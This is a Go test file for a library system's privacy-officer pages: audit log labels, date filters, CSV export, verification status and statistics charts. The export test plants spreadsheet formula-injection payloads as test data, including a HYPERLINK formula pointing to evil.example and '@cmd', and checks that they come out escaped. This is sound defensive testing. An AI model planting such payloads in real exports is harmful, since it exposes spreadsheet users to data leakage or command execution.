package web_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/PuerkitoBio/goquery"
	"github.com/carrel-library/carrel/models"
	"gorm.io/gorm"
)

// The privacy officer's pages (#21): the audit log in words, with date
// pickers, a CSV export and the chain's verification status; statistics
// as charts with dated axes and their numbers as tables.

// auditConst is an audit action constant as the code declares it.
var auditConst = regexp.MustCompile(`\b(Audit[A-Z]\w*)\s*=\s*"([a-z_]+(?:\.[a-z_]+)+)"`)

// Every action an audit entry can be written with has words on the
// officer's page: a new Audit… constant without a label fails here.
func TestEveryAuditActionHasALabel(t *testing.T) {
	var found int
	err := filepath.WalkDir("..", func(path string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || strings.HasPrefix(d.Name(), ".")) && path != ".." {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") || strings.HasSuffix(path, "_templ.go") {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		for _, m := range auditConst.FindAllStringSubmatch(string(src), -1) {
			found++
			if models.AuditActionLabel(m[2]) == m[2] {
				t.Errorf("%s: %s (%q) has no label in models/audit.go auditLabels", path, m[1], m[2])
			}
		}
		// An action written as a literal would escape the check above.
		if regexp.MustCompile(`AuditEntry\{[^}]*Action:\s*"`).Match(src) {
			t.Errorf("%s writes an audit action as a literal: declare an Audit… constant with a label", path)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if found < 20 {
		t.Fatalf("found only %d audit action constants: the pattern no longer matches how they are declared", found)
	}
	for _, a := range models.AuditActions() {
		if models.AuditActionLabel(a) == a {
			t.Errorf("the filter's action %q has no label", a)
		}
	}
}

// appendAudit writes an audit entry as the code would.
func appendAudit(t *testing.T, a *app, e models.AuditEntry) {
	t.Helper()
	if err := a.store.DB.Transaction(func(tx *gorm.DB) error { return a.store.AppendAudit(tx, &e) }); err != nil {
		t.Fatal(err)
	}
}

func TestOfficerReadsTheAuditLogInWordsAndFiltersItByDay(t *testing.T) {
	forEachDB(t, demoConfig(), func(t *testing.T, a *app) {
		a.staff("officer", models.RolePrivacyOfficer)
		c := a.client()
		wantRedirect(t, c.staffSignIn("officer", staffPassword), "/staff")
		// One entry on November 1, late in the day.
		appendAudit(t, a, models.AuditEntry{Action: models.AuditPurgeRun, Detail: "the November purge",
			CreatedAt: time.Date(2026, 11, 1, 23, 30, 0, 0, time.UTC)})

		r := c.get("/staff/audit")
		wantStatus(t, r, http.StatusOK)
		doc := r.doc(t)
		actions := doc.Find(`[data-testid="audit-action"]`).Text()
		for _, want := range []string{"Staff signed in", "Settings changed", "Retention purge ran"} {
			if !strings.Contains(actions, want) {
				t.Errorf("the log's actions %q lack %q", actions, want)
			}
		}
		if table := doc.Find(`[data-testid="audit"]`).Text(); strings.Contains(table, models.AuditStaffSignIn) || strings.Contains(table, models.AuditPurgeRun) {
			t.Errorf("the log shows action codes: %q", table)
		}
		if got := doc.Find(`select#action option[value="staff.sign_in"]`).Text(); got != "Staff signed in" {
			t.Errorf("the filter's choice for staff.sign_in reads %q", got)
		}
		if doc.Find(`[data-testid="audit"] td[data-label="Action"]`).Length() == 0 {
			t.Error("the log's cells carry no data-label for phones")
		}
		for _, f := range []string{"from", "to"} {
			if typ, _ := doc.Find(`input#` + f).Attr("type"); typ != "date" {
				t.Errorf("the %s field is a %q input, want a date picker", f, typ)
			}
		}

		// Both days included: the one entry of November 1.
		r = c.get("/staff/audit?from=2026-11-01&to=2026-11-01")
		wantStatus(t, r, http.StatusOK)
		if got := strings.TrimSpace(r.doc(t).Find(`[data-testid="audit-action"]`).Text()); got != "Retention purge ran" {
			t.Errorf("November 1 alone shows %q", got)
		}

		// A date that is not one, and a range backwards, are refused with
		// the reason next to the field and in the summary above.
		for _, tc := range []struct{ query, field, want string }{
			{"from=2026-13-45", "from", "Enter the first day as a date, like 2026-11-27."},
			{"to=yesterday", "to", "Enter the last day as a date, like 2026-11-27."},
			{"from=2026-11-20&to=2026-11-10", "to", "The last day comes before the first day."},
		} {
			r := c.get("/staff/audit?" + tc.query)
			wantStatus(t, r, http.StatusUnprocessableEntity)
			d := r.doc(t)
			if got := d.Find(`[data-testid="` + tc.field + `-error"]`).Text(); got != tc.want {
				t.Errorf("%s: next to the field %q, want %q", tc.query, got, tc.want)
			}
			if got, _ := d.Find(`[data-testid="form-error"] a`).Attr("href"); got != "#"+tc.field {
				t.Errorf("%s: the summary links to %q", tc.query, got)
			}
			if inv, _ := d.Find(`input#` + tc.field).Attr("aria-invalid"); inv != "true" {
				t.Errorf("%s: the field is not marked invalid", tc.query)
			}
			if d.Find(`[data-testid="audit"]`).Length() != 0 || d.Find(`[data-testid="audit-export"]`).Length() != 0 {
				t.Errorf("%s: entries or an export shown for a filter that was refused", tc.query)
			}
		}
	})
}

func TestOfficerExportsTheAuditLogAsSafeCSV(t *testing.T) {
	forEachDB(t, demoConfig(), func(t *testing.T, a *app) {
		officer := a.staff("officer", models.RolePrivacyOfficer)
		p := a.patron(card, pin, "Rosa", "Parks")
		c := a.client()
		wantRedirect(t, c.staffSignIn("officer", staffPassword), "/staff")
		// Text from outside (an ILS, a form) that a spreadsheet would run.
		appendAudit(t, a, models.AuditEntry{StaffID: &officer.ID, PatronID: &p.ID, Action: models.AuditPatronLookup,
			Reason: "+SUM(1+1)", Detail: `=HYPERLINK("http://evil.example/?x","click")`})
		appendAudit(t, a, models.AuditEntry{Action: models.AuditConfigChanged, Detail: "@cmd"})

		form := url.Values{"action": {models.AuditPatronLookup}, "card": {card}}
		// No form token, no download.
		wantStatus(t, c.post("/staff/audit.csv", form), http.StatusForbidden)

		page := c.get("/staff/audit?action=patron.lookup&card=" + card)
		if v, _ := page.doc(t).Find(`[data-testid="audit-export"] input[name="card"]`).Attr("value"); v != card {
			t.Fatalf("the export form does not carry the filter: card %q", v)
		}
		form.Set("csrf_token", c.csrf("/staff/audit"))
		r := c.post("/staff/audit.csv", form)
		wantStatus(t, r, http.StatusOK)
		if ct := r.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
			t.Errorf("Content-Type %q", ct)
		}
		if cd := r.Header.Get("Content-Disposition"); !strings.Contains(cd, `attachment; filename="carrel-audit-log-2026-11-27.csv"`) {
			t.Errorf("Content-Disposition %q", cd)
		}
		rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
		if err != nil {
			t.Fatalf("not CSV: %v\n%s", err, r.body)
		}
		want := "entry,when,staff,staff_username,patron_card,action,action_code,reason,detail,restricted"
		if len(rows) != 2 || strings.Join(rows[0], ",") != want {
			t.Fatalf("want the header and the one lookup, got %q", rows)
		}
		row := map[string]string{}
		for i, h := range rows[0] {
			row[h] = rows[1][i]
		}
		for k, v := range map[string]string{"staff": "Officer Staffer", "staff_username": "officer", "patron_card": card,
			"action": "Patron record looked up", "action_code": "patron.lookup", "restricted": "no",
			"reason": "'+SUM(1+1)", "detail": `'=HYPERLINK("http://evil.example/?x","click")`, "when": "2026-11-27T18:00:00Z"} {
			if row[k] != v {
				t.Errorf("column %s = %q, want %q", k, row[k], v)
			}
		}

		// The export is itself in the log, naming the patron whose entries
		// it held, without copying their card into the text.
		var e models.AuditEntry
		a.store.DB.Where("action = ?", models.AuditExport).Take(&e)
		if e.StaffID == nil || *e.StaffID != officer.ID || e.PatronID == nil || *e.PatronID != p.ID ||
			e.Detail != "1 entry exported; filters: action Patron record looked up, one patron's card" {
			t.Errorf("the export's audit entry: %+v", e)
		}
		if got := strings.TrimSpace(c.get("/staff/audit?action=audit.export").doc(t).Find(`[data-testid="audit-action"]`).Text()); got != "Audit log exported" {
			t.Errorf("the export shows on the page as %q", got)
		}

		// Everything, unfiltered: every entry, and the formula cell of the
		// settings change made safe too.
		r = c.post("/staff/audit.csv", url.Values{"csrf_token": {c.csrf("/staff/audit")}})
		wantStatus(t, r, http.StatusOK)
		if !strings.Contains(r.body, ",'@cmd,") || strings.Contains(r.body, ",@cmd,") {
			t.Errorf("the unfiltered export:\n%s", r.body)
		}

		// A bad date is refused on the page, with nothing downloaded or
		// recorded.
		before := countAudit(a, models.AuditExport)
		r = c.post("/staff/audit.csv", url.Values{"from": {"2026-02-30"}, "csrf_token": {c.csrf("/staff/audit")}})
		wantStatus(t, r, http.StatusUnprocessableEntity)
		if got := r.doc(t).Find(`[data-testid="from-error"]`).Text(); !strings.Contains(got, "Enter the first day as a date") {
			t.Errorf("a bad date in the export: %q", got)
		}
		if countAudit(a, models.AuditExport) != before {
			t.Error("a refused export was recorded")
		}
	})
}

func countAudit(a *app, action string) int64 {
	var n int64
	a.store.DB.Model(&models.AuditEntry{}).Where("action = ?", action).Count(&n)
	return n
}

func TestOfficerSeesHowManyEntriesTheLastVerificationCovered(t *testing.T) {
	forEachDB(t, demoConfig(), func(t *testing.T, a *app) {
		a.staff("officer", models.RolePrivacyOfficer)
		c := a.client()
		wantRedirect(t, c.staffSignIn("officer", staffPassword), "/staff")
		// Enough entries for a thousands separator.
		err := a.store.DB.Transaction(func(tx *gorm.DB) error {
			for range 1000 {
				if err := a.store.AppendAudit(tx, &models.AuditEntry{Action: models.AuditConfigChanged, Detail: "x"}); err != nil {
					return err
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
		wantRedirect(t, c.post("/staff/audit/verify", url.Values{"csrf_token": {c.csrf("/staff/audit")}}), "/staff/audit")
		doc := c.get("/staff/audit").doc(t)
		if got := strings.TrimSpace(doc.Find(`[data-testid="audit-check-result"]`).Text()); got != "Verified: all 1,003 entries intact" {
			t.Errorf("after verifying, the page says %q", got)
		}
		// The entry recording the verification is not one it missed.
		if doc.Find(`[data-testid="audit-unchecked"]`).Length() != 0 {
			t.Errorf("right after verifying: %q", doc.Find(`[data-testid="audit-unchecked"]`).Text())
		}
		appendAudit(t, a, models.AuditEntry{Action: models.AuditConfigChanged, Detail: "later"})
		got := c.get("/staff/audit").doc(t).Find(`[data-testid="audit-unchecked"]`).Text()
		if got != "1 entry was written since then; the next verification checks them." {
			t.Errorf("one entry later, the page says %q", got)
		}
	})
}

func TestStatisticsChartsHaveDatedAxesAndTables(t *testing.T) {
	forEachDB(t, demoConfig(), func(t *testing.T, a *app) {
		a.staff("olive", models.RolePrivacyOfficer)
		if err := a.store.AddCounts(t.Context(), map[[2]string]int64{
			{"2026-11-21", "signin.patron"}: 3, {"2026-11-27", "signin.patron"}: 5,
		}); err != nil {
			t.Fatal(err)
		}
		c := a.client()
		c.staffSignIn("olive", staffPassword)
		r := c.get("/staff/stats?from=2026-11-20&to=2026-11-27")
		wantStatus(t, r, http.StatusOK)
		doc := r.doc(t)
		var chart = doc.Find(`[data-testid="chart"]`).FilterFunction(func(_ int, s *goquery.Selection) bool {
			return strings.Contains(s.Find("figcaption").Text(), "signin.patron")
		})
		if chart.Length() != 1 {
			t.Fatalf("no chart of patron sign-ins:\n%s", excerpt(r.body))
		}
		if got := strings.Join(strings.Fields(chart.Find("figcaption").Text()), " "); got != "Patron sign-ins signin.patron 8 in all from November 20, 2026 to November 27, 2026; at most 5 a day, on November 27, 2026" {
			t.Errorf("caption %q", got)
		}
		svg := chart.Find(`svg[role="img"]`)
		labelled, _ := svg.Attr("aria-labelledby")
		if svg.Find("title").First().Text() == "" || svg.Find("desc").Text() == "" || labelled == "" {
			t.Error("the chart has no accessible name and description")
		}
		var xs, ys []string
		svg.Find("text.x-tick").Each(func(_ int, s *goquery.Selection) { xs = append(xs, s.Text()) })
		svg.Find("text.y-tick").Each(func(_ int, s *goquery.Selection) { ys = append(ys, s.Text()) })
		if strings.Join(xs, ",") != "Nov 20,Nov 22,Nov 24,Nov 26" {
			t.Errorf("the date axis reads %q", xs)
		}
		if strings.Join(ys, ",") != "0,1,2,3,4,5" {
			t.Errorf("the count axis reads %q", ys)
		}
		if n := svg.Find("rect.bar").Length(); n != 2 {
			t.Errorf("%d bars, want one per day with a count", n)
		}
		// The same numbers as a table, a row per day, labelled for phones.
		table := chart.Find(`table[data-testid="chart-table"]`)
		if n := table.Find("tbody tr").Length(); n != 8 {
			t.Errorf("the table has %d days, want 8", n)
		}
		last := table.Find("tbody tr").Last()
		if day, count := last.Find(`th[data-label="Day"]`).Text(), last.Find(`td[data-label="Count"]`).Text(); day != "November 27, 2026" || count != "5" {
			t.Errorf("the table's last row: %q %q", day, count)
		}

		// A bad range is refused next to its field.
		r = c.get("/staff/stats?from=2026-11-20&to=2026-11-01")
		wantStatus(t, r, http.StatusUnprocessableEntity)
		d := r.doc(t)
		if got := d.Find(`[data-testid="to-error"]`).Text(); got != "The last day comes before the first day." || d.Find(`[data-testid="form-error"]`).Length() != 1 {
			t.Errorf("a backwards range: %q", got)
		}
	})
}
